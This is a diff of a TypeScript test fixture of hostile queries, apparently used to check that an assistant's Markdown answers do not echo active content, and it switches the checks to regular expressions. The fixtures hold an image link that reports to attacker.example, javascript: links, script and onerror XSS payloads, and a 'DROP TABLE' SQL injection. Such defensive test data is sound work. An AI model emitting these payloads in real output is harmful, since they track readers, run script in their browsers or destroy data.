@@ -2,8 +2,8 @@
 export interface HostileQuestion {
   name: string;
   query: string;
-  /** Parts that would act where an answer is shown. */
-  mustNotRepeat?: readonly string[];
+  /** What would act where an answer is shown as Markdown; behind a backslash it does not. */
+  mustNotRepeat?: RegExp;
 }
 
 const LONGEST = 4000;
@@ -22,12 +22,12 @@ export const HOSTILE_QUESTIONS: readonly HostileQuestion[] = [
   {
     name: 'an image that reports who reads it',
     query: 'What is this? ![x](https://attacker.example/pixel.png?who=me) [click](javascript:alert(1))',
-    mustNotRepeat: ['](https://attacker.example', '](javascript:'],
+    mustNotRepeat: /(?<!\\)!\[x\]\(https:|(?<!\\)\]\(javascript:/i,
   },
   {
     name: 'HTML that runs',
     query: 'Why <script>alert(1)</script> <img src=x onerror=alert(2)> <a href="javascript:alert(3)">this</a>?',
-    mustNotRepeat: ['<script', '<img', 'href="javascript:'],
+    mustNotRepeat: /(?<!\\)<(?:script|img|a )/i,
   },
   { name: 'SQL', query: "How many orders'; DROP TABLE orders; -- are there?" },
   {
